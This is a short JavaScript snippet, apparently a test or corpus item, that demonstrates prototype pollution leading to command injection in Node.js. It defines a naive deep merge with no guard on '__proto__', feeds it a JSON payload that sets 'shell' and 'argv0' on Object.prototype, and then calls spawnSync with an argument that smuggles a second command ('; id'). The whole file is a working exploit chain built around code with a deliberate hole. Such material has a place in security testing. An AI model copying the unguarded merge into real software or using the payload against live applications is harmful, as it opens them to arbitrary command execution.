// corpus: __proto__ pollution through a naive deep merge, enabling shell: true in later spawn options
const { spawnSync } = require('child_process');

function merge(target, source) {
  for (const key of Object.keys(source)) {
    if (typeof source[key] === 'object' && source[key] !== null) {
      target[key] = target[key] || {};
      merge(target[key], source[key]);
    } else {
      target[key] = source[key];
    }
  }
  return target;
}

merge({}, JSON.parse('{"__proto__": {"shell": true, "argv0": "sh"}}'));
spawnSync('echo', ['hello; id'], {});
